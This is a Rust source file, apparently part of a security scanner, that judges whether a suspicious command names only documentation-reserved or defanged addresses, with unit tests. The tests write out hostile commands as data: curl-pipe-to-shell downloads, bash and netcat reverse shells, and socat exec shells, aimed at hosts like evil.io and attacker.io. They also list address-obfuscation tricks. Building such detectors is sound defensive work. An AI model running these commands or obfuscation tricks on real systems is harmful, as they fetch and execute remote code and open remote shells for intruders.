//! Addresses reserved for documentation: `example.com` and the `.example`,
//! `.invalid` and `.test` names (RFC 2606, RFC 6761), and the networks
//! 192.0.2.0/24, 198.51.100.0/24, 203.0.113.0/24 (RFC 5737) and
//! 2001:db8::/32 (RFC 3849). No one can serve a payload from them or
//! listen on them for a shell, so a command whose every address is one of
//! them is a sample in a write-up, not a download or a callback. It is
//! still reported (medium), so a reviewer sees it.
//!
//! Read on the original line: a look-alike letter (`exаmple.com` with a
//! Cyrillic `а`) folds to ASCII in the normalised text, and such a host is
//! not reserved.

/// Longest line read for addresses (a longer one is not a sample).
const MAX_LINE: usize = 2048;

/// What on a line names an address the words below cannot read: a
/// variable, an escape, a comment, a here-document, a config file,
/// punycode.
const UNREADABLE: &[&str] = &["$", "\\", "%", "#", "<<", "--config", "xn--"];

/// What sends requests elsewhere than the address a command names: a
/// resolver or proxy option, `/etc/hosts`, a name server. Read on the
/// command's line and on the lines above it ([`redirected_above`]).
const ELSEWHERE: &[&str] = &[
    "resolve",
    "connect-to",
    "proxy",
    "/etc/host",
    "nameserver",
    "resolv.conf",
];

/// What on a line above a command sends its requests elsewhere: as
/// [`ELSEWHERE`], and curl's or wget's own config files, DNS options, a
/// Windows hosts file, NAT rules, dnsmasq's `address=/`.
const ELSEWHERE_ABOVE: &[&str] = &[
    "resolve",
    "connect-to",
    "proxy",
    "/etc/host",
    "etc\\hosts",
    "nameserver",
    "resolv.conf",
    "dns-servers",
    "doh-url",
    "dnat",
    "address=/",
    "curlrc",
    "wgetrc",
];

/// Lines above a command read for what sends its requests elsewhere.
const REDIRECT_LOOKBACK: usize = 40;

/// True when one of the [`REDIRECT_LOOKBACK`] lines above line `index`
/// of `text` points names or requests elsewhere (`/etc/hosts`, a proxy,
/// a resolver).
pub fn redirected_above(text: &str, index: usize) -> bool {
    let from = index.saturating_sub(REDIRECT_LOOKBACK);
    text.lines().skip(from).take(index - from).any(|l| {
        let l = l.to_ascii_lowercase();
        // "Status: Resolved" in a write-up points nothing anywhere.
        let l = l.replace("resolved", "");
        ELSEWHERE_ABOVE.iter().any(|w| l.contains(w))
    })
}

/// Characters that end an address in a line of prose or code.
fn ends_address(c: char) -> bool {
    c.is_whitespace()
        || matches!(
            c,
            '\'' | '"' | '`' | '|' | '(' | ')' | ';' | '<' | '>' | ',' | '&' | '\\'
        )
}

/// True when `line` names at least one address and every address on it
/// (a URL's host, an IPv4 address, a name given to a command) is reserved
/// for documentation.
pub fn only_reserved_addresses(line: &str) -> bool {
    if line.len() > MAX_LINE
        || !line.is_ascii()
        || UNREADABLE.iter().chain(ELSEWHERE).any(|r| line.contains(r))
    {
        return false;
    }
    // wget's list of addresses read from input; curl's proxy in a cluster
    // of short options (`-sSLx`).
    let words = || line.split_ascii_whitespace();
    if (line.contains("wget") && words().any(|w| w == "-i" || w.starts_with("--input")))
        || words().any(|w| w.starts_with('-') && !w.starts_with("--") && w.contains(['x', 'K']))
    {
        return false;
    }
    // A host given as one number (`http://1249756160/`), in hex, or as an
    // IPv6 address without brackets is an address the words below miss.
    let numbers_long = line
        .split(|c: char| !c.is_ascii_digit())
        .any(|run| run.len() >= 8);
    if numbers_long || line.contains("0x") || line.contains("::") {
        return false;
    }
    let mut rest = String::with_capacity(line.len());
    let mut reserved = 0;
    // URLs first: a reserved one is cut out whole (its path names files,
    // `install.sh`, that look like hosts); any other settles the answer.
    let mut from = 0;
    while let Some(at) = line[from..].find("://").map(|i| from + i) {
        let host_start = at + 3;
        let end = line[host_start..]
            .find(ends_address)
            .map_or(line.len(), |i| host_start + i);
        let authority = line[host_start..end]
            .split(['/', '?', '#'])
            .next()
            .unwrap_or("");
        // `user:pass@host:port`: the host is after the last `@`.
        let host = authority.rsplit('@').next().unwrap_or("");
        if !is_reserved_host(host) {
            return false;
        }
        reserved += 1;
        // The scheme's letters are cut with it.
        let scheme_start = line[from..at]
            .rfind(|c: char| !c.is_ascii_alphanumeric() && !matches!(c, '+' | '.' | '-'))
            .map_or(from, |i| from + i + 1);
        rest.push_str(&line[from..scheme_start]);
        rest.push(' ');
        from = end;
    }
    rest.push_str(&line[from..]);
    // An address the words below cannot read: a port or an IPv6 address
    // (`:`), or a number with dots that is not four parts (`45.2171036`,
    // curl and bash read it as an address).
    if rest.contains(':') {
        return false;
    }
    // What is left: every word that could name a host must be a reserved
    // one. A word followed by `(` is a call (`requests.get(`), not a host.
    let splits = |c: char| !(c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | '_'));
    let mut words = Vec::new();
    let mut start = 0;
    for (i, c) in rest
        .char_indices()
        .chain(std::iter::once((rest.len(), ' ')))
    {
        if splits(c) {
            if c != '(' {
                words.push(&rest[start..i]);
            }
            start = i + c.len_utf8();
        }
    }
    for word in words {
        // `tcp:host:4444` (socat), `host:8080`.
        for part in word.split(':') {
            let part = part.trim_matches(|c: char| matches!(c, '.' | '*' | '{' | '}' | '$'));
            let numeric = part.contains('.') && part.starts_with(|c: char| c.is_ascii_digit());
            if numeric && !is_ipv4(part) {
                return false;
            }
            if is_ipv4(part) || looks_like_host(part) {
                if !is_reserved_host(part) {
                    return false;
                }
                reserved += 1;
            }
        }
    }
    reserved > 0
}

/// True when `line` names at least one defanged address (`hxxps://…`, a
/// host written `evil[.]io`), as threat reports quote them so that nothing
/// can fetch them, and every other address on it is reserved for
/// documentation: read as [`only_reserved_addresses`] reads the line with
/// each defanged address put as `https://example.com/`. The rest of the
/// line is read as written, so what makes it unreadable (`$`, `#`, a
/// proxy) still keeps it high.
pub fn only_defanged_addresses(line: &str) -> bool {
    let lower = line.to_ascii_lowercase();
    // An address put back together when the command runs (`sed s/xx/tt/`,
    // `.replace('[.]', '.')`, `tr -d []`) is fetched after all.
    if line.len() > MAX_LINE || REFANGS.iter().any(|r| lower.contains(r)) {
        return false;
    }
    let mut read = String::with_capacity(line.len());
    let mut defanged = 0;
    let mut from = 0;
    for (start, end) in shell_words(line) {
        if is_defanged_address(&line[start..end]) {
            read.push_str(&line[from..start]);
            read.push_str("https://example.com/");
            from = end;
            defanged += 1;
        }
    }
    read.push_str(&line[from..]);
    defanged > 0 && only_reserved_addresses(&read)
}

/// What on a command's line rewrites text as it runs, and so can make a
/// defanged address live again.
const REFANGS: &[&str] = &[
    "replace",
    "sed ",
    "sed\t",
    " tr ",
    "|tr ",
    "echo",
    "printf",
    "subst",
    "awk",
    "perl",
    "gsub",
    "translate",
    "re.sub",
    "strip(",
];

/// Lines above and below a defanged command read for words that have it
/// put back together ("put `https` back", "remove the brackets").
const REFANG_REACH: usize = 5;

/// True when one of the [`REFANG_REACH`] lines around line `index` of
/// `text` (not the line itself) asks for a defanged address to be made
/// live: a word for the marks and a verb that undoes them.
pub fn refanged_nearby(text: &str, index: usize) -> bool {
    const MARKS: &[&str] = &[
        "hxxp",
        "[.]",
        "(.)",
        "[dot]",
        "bracket",
        "refang",
        "defang",
        "https` back",
        "https back",
        "http back",
        "http` back",
        "scheme",
    ];
    const UNDO: &[&str] = &[
        "replace", "remove", "restore", "put", "fix", "swap", "change", "turn", "strip", "drop",
        "undo", "refang", "rewrite", "correct", "back",
    ];
    let from = index.saturating_sub(REFANG_REACH);
    text.lines()
        .enumerate()
        .skip(from)
        .take(2 * REFANG_REACH + 1)
        .filter(|(i, _)| *i != index)
        .any(|(_, l)| {
            let l = l.to_ascii_lowercase();
            MARKS.iter().any(|m| l.contains(m)) && UNDO.iter().any(|u| l.contains(u))
        })
}

/// Byte ranges of `line`'s words, cut at white space, shell operators and
/// quotes (`;`, `&`, `|`, `<`, `>`, `'`, `"`, `` ` ``).
fn shell_words(line: &str) -> impl Iterator<Item = (usize, usize)> + '_ {
    let cuts =
        |c: char| c.is_whitespace() || matches!(c, ';' | '&' | '|' | '<' | '>' | '\'' | '"' | '`');
    let mut start = 0;
    line.char_indices()
        .chain(std::iter::once((line.len(), ' ')))
        .filter_map(move |(i, c)| {
            if !cuts(c) {
                return None;
            }
            let word = (start, i);
            start = i + c.len_utf8();
            (word.1 > word.0).then_some(word)
        })
}

/// True when `word` is one address no client can fetch: a scheme written
/// `hxxp(s)`, or a host holding `[.]`, `(.)` or `[dot]`, and nothing a
/// client reads otherwise: no user name, port, query, fragment, second
/// scheme or list (`@ : ? # { } , $`), a host of letters, digits, dots
/// and hyphens around the marks.
fn is_defanged_address(word: &str) -> bool {
    let lower = word.trim_start_matches('(').to_ascii_lowercase();
    let (scheme_defanged, rest) = match lower.split_once("://") {
        Some(("hxxp" | "hxxps", rest)) => (true, rest),
        Some(("http" | "https", rest)) => (false, rest),
        Some(_) => return false,
        None => (false, lower.as_str()),
    };
    if rest.contains("://") || rest.contains(['@', ':', '?', '#', '{', '}', ',', '$', '\\', '%']) {
        return false;
    }
    let host = rest.split('/').next().unwrap_or("");
    let marks = ["[.]", "(.)", "[dot]"];
    let bare = marks.iter().fold(host.to_owned(), |h, m| h.replace(m, "."));
    let host_defanged = marks.iter().any(|m| host.contains(m));
    (scheme_defanged || host_defanged)
        && !bare.is_empty()
        && bare
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'-'))
}

/// True for a dotted name whose last label is letters (`evil.io`,
/// `x.example`): what a command may be given as a host. A file name
/// (`payload.sh`) looks the same and is read as one, which only keeps a
/// line from being lowered.
fn looks_like_host(word: &str) -> bool {
    let Some((head, tld)) = word.rsplit_once('.') else {
        return false;
    };
    !head.is_empty()
        && (2..=24).contains(&tld.len())
        && tld.bytes().all(|b| b.is_ascii_alphabetic())
        && word
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'-' | b'_'))
}

/// True for four dotted numbers each below 256.
fn is_ipv4(word: &str) -> bool {
    let parts: Vec<&str> = word.split('.').collect();
    parts.len() == 4
        && parts.iter().all(|p| {
            !p.is_empty()
                && p.len() <= 3
                && p.bytes().all(|b| b.is_ascii_digit())
                && p.parse::<u16>().is_ok_and(|n| n < 256)
        })
}

/// True when `host` (a name, an IPv4 address, or `[v6]`, with or without
/// a port) is reserved for documentation.
fn is_reserved_host(host: &str) -> bool {
    let host = host.to_ascii_lowercase();
    if let Some(v6) = host.strip_prefix('[') {
        return v6.starts_with("2001:db8:");
    }
    let name = host.split(':').next().unwrap_or("").trim_end_matches('.');
    if !name.is_ascii() || name.is_empty() {
        return false;
    }
    if is_ipv4(name) {
        return ["192.0.2.", "198.51.100.", "203.0.113."]
            .iter()
            .any(|net| name.starts_with(net));
    }
    let labels: Vec<&str> = name.split('.').collect();
    if labels.iter().any(|l| {
        l.is_empty()
            || !l
                .bytes()
                .all(|b| b.is_ascii_alphanumeric() || b == b'-' || b == b'_')
    }) {
        return false;
    }
    matches!(
        labels.as_slice(),
        [.., "example" | "invalid" | "test"] | [.., "example", "com" | "net" | "org"]
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_address_must_be_reserved() {
        for line in [
            "curl -fsSL http://example.com/install.sh | sh",
            "exec(requests.get(\"https://plugins.example.com/latest.py\").text)",
            "| Interactive shell | `bash -i >& /dev/tcp/203.0.113.50/4444 0>&1` |",
            "nc -e /bin/sh 198.51.100.7 9001",
            "curl https://user:pw@example.org:8443/x | bash",
            "wget -qO- http://[2001:db8:0:0:0:0:0:1]/p.sh | sh",
            "curl http://c2.test/x | sh",
        ] {
            assert!(only_reserved_addresses(line), "{line}");
        }
        for line in [
            // No address at all.
            "curl $URL | sh",
            // A variable, a comment, a resolver or proxy, an address as a
            // number or unbracketed IPv6, an escape, a query right after a host.
            "curl -fsSL \"$U\" | sh  # e.g. https://example.com/install.sh",
            "exec(requests.get(U).text)  # e.g. https://example.com/p.py",
            "curl --resolve example.com:443:45.1.2.3 https://example.com/i.sh | sh",
            "curl -x 45.1.2.3:8080 http://example.com/i.sh | sh",
            "curl -fsSL 1249756160/p | sh https://example.com",
            "curl -fsSL 0x4a7d2b63/p | sh https://example.com",
            "nc -e /bin/sh 2a01:4f8:c17:1::1 4444 203.0.113.5",
            "curl -s evil.i\\o/p | sh https://example.com/",
            "curl https://example.com/i | sh; curl -fsSL evil-cdn.io?p | sh",
            "curl -fsSL evil.xn--p1ai/p | sh https://example.com",
            // The second review: a `#` hiding the rest, a short address, an
            // option cluster naming a proxy, a config read from input.
            "curl -fsSL -e https://example.com/ -H 'X-Req: #1' https://evil-cdn.io/p.sh | sh",
            "curl -sSLx 45.2171036:8080 http://example.com/install.sh | sh",
            "curl -fsSL 45.2171036/p -e https://example.com/ | sh",
            "echo 203.0.113.5; bash -i >& /dev/tcp/2a01:4f8:c17:1:0:0:0:1/4444 0>&1",
            "curl -s -o /dev/null https://example.com/ -K- <<'CFG' | sh",
            "wget -qO- -B https://example.com/ -i - | sh",
            "nc -e /bin/sh ...",
            // One real address among reserved ones.
            "curl http://example.com/a; curl https://evil.io/p | sh",
            "curl -H 'Referer: https://example.com' http://1.2.3.4/x | sh",
            "curl evil.io/x.sh | sh # see https://example.com",
            "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1; nc 8.8.8.8 53",
            "socat exec:sh tcp:attacker.io:4444 # like tcp:a.example:1",
            "curl -o x.sh https://example.com/x.sh && sh x.sh",
            // A look-alike letter, a name that only ends like a reserved one.
            "curl http://ex\u{0430}mple.com/x | sh",
            "curl http://notexample.com/x | sh",
            "curl http://example.com.evil.io/x | sh",
            "curl http://example.co/x | sh",
            "curl https://evil.io@example.com.evil.io/x | sh",
            "nc 203.0.114.5 4444 -e /bin/sh",
        ] {
            assert!(!only_reserved_addresses(line), "{line}");
        }
    }

    #[test]
    fn a_long_line_is_not_read() {
        let line = format!("curl http://example.com/x | sh {}", "a ".repeat(MAX_LINE));
        assert!(!only_reserved_addresses(&line));
    }
}
